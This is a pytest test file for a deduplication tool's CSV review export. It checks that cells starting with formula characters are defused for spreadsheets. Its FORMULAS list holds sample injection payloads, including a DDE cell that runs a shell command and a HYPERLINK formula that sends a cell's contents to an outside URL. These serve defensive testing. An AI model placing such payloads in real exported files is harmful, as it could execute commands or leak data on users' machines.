"""The file of `pehchan review --csv`: what a spreadsheet reads in it, and never runs."""

import csv
import io
import os
import re
import stat
import sys
import unicodedata
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pehchan.console.spreadsheet import SIGNS, harmless, spreadsheet
from pehchan.learning import whole_files

FORMULAS = [
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("http://example.org?x="&A1,"look")',
    "+1+cmd",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r\n=1+1",
    "  =1+1",
    "\u00a0\u3000=1+1",
    "\ufeff=1+1",
    '"=1+1',
    "＝1+1",
    "＋1",
    "－1+1",
    "＠SUM(1)",
    "−1+1",
    "Ann;=1+1",
    'Ann"; "=1+1',
    "Ann\n=1+1",
    "Ann\t@SUM(1)",
]
HARMLESS = [
    "",
    "Ann",
    "a=b",
    "5-3",
    "Ann, Lee",
    'the "best"',
    "two\nlines",
    "'quoted",
    "a;b",
    "-12.5",
    "-7",
    " x",
    "é山",
]


def is_formula(cell):
    """Whether a spreadsheet might run a cell: by the names of Unicode, and letter by letter."""
    if re.fullmatch(r"-[0-9]+(\.[0-9]+)?", cell):
        return False
    for character in cell:
        if unicodedata.category(character)[0] in "CZ" or character == '"':
            continue
        return unicodedata.normalize("NFKC", character) in (*"=+-@−",)
    return False


def cells(data, delimiter=",", quoting=csv.QUOTE_MINIMAL):
    text = io.StringIO(data.decode("utf-8-sig"), newline="")
    return list(csv.reader(text, delimiter=delimiter, quoting=quoting))


def as_any_spreadsheet_reads(data):
    """The cells by comma, semicolon and tab, and where quotes are not heeded but at a cell's beginning, or never."""
    for delimiter in ",;\t":
        for row in cells(data, delimiter):
            yield from row
    yield from re.split("[;\t\r\n]+", data.decode("utf-8-sig"))


nasty = st.text(st.sampled_from("=+-@＝＋－＠−\t\r\n;,\"' \u00a0\u200b\ufeffab15.é"), max_size=8) | st.text(
    max_size=8
)


@given(st.lists(st.lists(nasty, min_size=2, max_size=3), min_size=1, max_size=4))
def test_no_cell_is_a_formula_however_the_file_is_read(rows):
    data = spreadsheet([[1, *row] for row in rows])
    assert [cell for cell in as_any_spreadsheet_reads(data) if is_formula(cell)] == []
    assert not any(cell.startswith(("\t", "\r", "\n")) for row in cells(data) for cell in row)
    # Nothing but apostrophes was added.
    found = [[cell.replace("'", "") for cell in row] for row in cells(data)]
    assert found == [["1", *(value.replace("'", "") for value in row)] for row in rows]


@given(
    st.lists(
        st.lists(st.text(st.characters(exclude_characters=SIGNS, codec="utf-8"), max_size=9), min_size=2)
    )
)
def test_what_begins_no_formula_comes_back_as_it_was(rows):
    rows = [[value.lstrip("\t\r\n") for value in row] for row in rows]
    assert cells(spreadsheet(rows)) == rows


def test_every_character_that_stands_for_a_sign_is_known():
    alike = {
        c for c in map(chr, range(sys.maxunicode + 1)) if unicodedata.normalize("NFKC", c) in (*"=+-@−",)
    }
    assert alike == SIGNS


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_becomes_a_text(value):
    assert harmless(value) != value
    assert harmless(value).replace("'", "") == value.replace("'", "")
    assert harmless(harmless(value)) == harmless(value)


@pytest.mark.parametrize("value", HARMLESS)
def test_other_values_and_negative_numbers_stay_as_they_are(value):
    assert harmless(value) == value


@pytest.mark.parametrize("value", ["-1-1", "-1e5", "-.5", "-1.", "- 1", "-1\n", "-٣", "--1", "+49301234567"])
def test_what_is_more_than_a_negative_number_becomes_a_text(value):
    assert harmless(value) == f"'{value}"


def test_what_is_no_character_is_written_as_an_escape():
    assert cells(spreadsheet([["\ud800", "é"]])) == [["\\ud800", "é"]]


@pytest.fixture
def folder(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)


def read(path):
    return cells(Path(path).read_bytes())


@pytest.fixture
def nasty_run(called, folder):
    """An output of records that hold all of the values above, each twice: in a field that is compared, and in one
    that is not.
    """
    fields = ["=1+1", "@SUM(1), a note"]
    with open("nasty.csv", "w", encoding="utf-8", newline="") as file:
        written = csv.writer(file)
        written.writerow(["id", *fields])
        for number, value in enumerate([*FORMULAS, *filter(None, HARMLESS)]):
            written.writerows([f"{sign}{number}", f"{number:03}{'x' * 9}{number:03}", value] for sign in "=-")
    Path("nasty.yaml").write_text('id: id\nfields: {"=1+1": exact}\ncutoff: 100\n')
    code, _, err = called("dedupe", "nasty.csv", "-s", "nasty.yaml", "-o", "out", "-q")
    assert code == 0, err
    return Path("out")


def test_records_with_formulas_are_written_so_that_none_is_run(called, nasty_run):
    code, out, err = called("review", nasty_run, "--csv", "review.csv", "-n", "1000")
    assert code == 0, err
    number = len(FORMULAS) + len(HARMLESS) - 1
    assert (
        out
        == f"written to review.csv: {number} of {number} clusters of two or more records, {2 * number} rows\n"
    )
    data = Path("review.csv").read_bytes()
    assert [cell for cell in as_any_spreadsheet_reads(data) if is_formula(cell)] == []
    names, *rows = cells(data)
    assert names == [
        "cluster", "why", "records", "id", "min_distance", "max_distance", "pairs", "'=1+1", "'@SUM(1), a note",
    ]  # fmt: skip
    with open("nasty.csv", encoding="utf-8", newline="") as file:
        _, *records = csv.reader(file)
    by_id = {record_id.lstrip("'"): values for _, _, _, record_id, _, _, _, *values in rows}
    for record_id, key, value in records:
        assert by_id[record_id] == [key, harmless(value)]
    for row in rows:
        assert row[1:3] + row[4:7] == ["2 records, farthest 0", "2", "0", "0", "1"]
    # Two rows a cluster, one after the other.
    assert [int(row[0]) for row in rows] == [k // 2 + 1 for k in range(2 * number)]
    assert stat.S_IMODE(os.stat("review.csv").st_mode) == 0o600


def test_a_file_is_replaced_only_where_that_is_asked_for_and_whole(called, nasty_run, monkeypatch):
    Path("review.csv").write_text("mine")
    for target, what in (("review.csv", "exists"), (".", "no file"), ("no/review.csv", "no folder")):
        code, _, err = called("review", nasty_run, "--csv", target)
        assert (code, what in err) == (2, True)
    code, _, err = called("review", nasty_run, "--csv", "nasty.csv", "--overwrite")
    assert code == 2
    assert "read its records" in err
    code, _, err = called("review", nasty_run, "--mask")
    assert (code, "Add --csv FILE." in err) == (2, True)
    assert Path("review.csv").read_text() == "mine"

    def full(file):
        raise OSError(28, "No space left on device")

    before = sorted(os.listdir())
    with monkeypatch.context() as patch:
        patch.setattr(whole_files.os, "fsync", full)
        assert called("review", nasty_run, "--csv", "review.csv", "--overwrite")[0] == 3
    assert sorted(os.listdir()) == before
    assert Path("review.csv").read_text() == "mine"
    assert called("review", nasty_run, "--csv", "review.csv", "--overwrite", "-n", "2")[0] == 0
    assert len(read("review.csv")) == 5
    assert stat.S_IMODE(os.stat("review.csv").st_mode) == 0o600


def test_masks_hide_ids_and_values(called, nasty_run):
    assert called("review", nasty_run, "--csv", "review.csv", "--mask")[0] == 0
    rows = read("review.csv")[1:]
    assert len(rows) == 20
    for row in rows:
        assert all(re.fullmatch("#[0-9a-f]{10}", row[place]) for place in (3, 7, 8))
    # The same value has the same mask.
    assert [row[7] for row in rows[::2]] == [row[7] for row in rows[1::2]]


def test_of_links_ids_stand_with_their_sets_and_clusters_as_in_the_terminal_view(called, folder):
    Path("a.csv").write_text("id,name,note\n1,Anna Lee,x\n2,Anne Lee,y\n3,Bob Ray,z\n")
    Path("b.csv").write_text("id,name,note\n1,Ann Lee,u\n2,Anna Leigh,v\n")
    Path("name.yaml").write_text("id: id\nfields: {name: jaro-winkler}\ncutoff: 150\n")
    code, _, err = called("link", "a.csv", "b.csv", "-s", "name.yaml", "-o", "out", "-q", "--many-to-many")
    assert code == 0, err
    assert called("review", "out", "--csv", "review.csv")[0] == 0
    rows = read("review.csv")[1:]
    shown = called("review", "out")[1].replace("\n", " ")
    exported = {}
    for part in Path("out/clusters").glob("part-*"):
        for line in part.read_text().splitlines():
            _, record, *numbers = line.split(",")
            exported[record] = numbers
    assert {row[3] for row in rows} == {"a:1", "a:2", "b:1", "b:2"}
    for row in rows:
        assert f"cluster {row[0]}: {row[1]} " in shown
        assert row[4:7] == exported[row[3]]
    values = {row[3]: row[7:] for row in rows}
    assert values["b:2"] == ["Anna Leigh", "v"]


def test_of_clusters_of_pairs_alone_there_are_ids(called, folder):
    Path("pairs.csv").write_text("=a,b,5\nb,c,7\n")
    assert called("cluster", "pairs.csv", "--cutoff", "9", "-o", "out", "-q")[0] == 0
    assert called("review", "out", "--csv", "review.csv")[0] == 0
    names, *rows = read("review.csv")
    assert names == ["cluster", "why", "records", "id", "min_distance", "max_distance", "pairs"]
    assert [row[3:] for row in rows] == [["'=a", "5", "5", "1"], ["b", "5", "7", "2"], ["c", "7", "7", "1"]]
